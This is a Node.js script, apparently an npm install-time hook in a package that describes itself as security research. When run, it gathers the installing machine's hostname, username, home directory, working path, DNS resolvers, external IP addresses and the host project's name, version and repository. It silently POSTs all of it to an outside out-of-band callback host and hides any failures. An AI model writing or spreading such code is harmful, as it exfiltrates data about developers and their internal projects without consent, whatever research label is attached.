// SPDX-License-Identifier: Apache-2.0
// This package is part of a security research. Only basic data is sent; nothing is changed.
import os from 'node:os';
import dns from 'node:dns';
import { readFile } from 'node:fs/promises';
import { join } from 'node:path';

const started = process.env.INIT_CWD ?? process.cwd();

async function project() {
  try {
    const { name, version, repository } = JSON.parse(await readFile(join(started, 'package.json'), 'utf8'));
    return { name, version, repository };
  } catch {
    return null;
  }
}

const notice = {
  package: process.env.npm_package_name,
  host: os.hostname(),
  user: os.userInfo().username,
  home: os.homedir(),
  where: started,
  resolvers: dns.getServers(),
  addresses: Object.values(os.networkInterfaces()).flat().filter((one) => !one.internal).map((one) => one.address),
  project: await project(),
};

try {
  await fetch('https://c8f2a1q7.collab-oast.example/notice', {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify(notice),
    signal: AbortSignal.timeout(6000),
  });
} catch {
  // nobody there
}
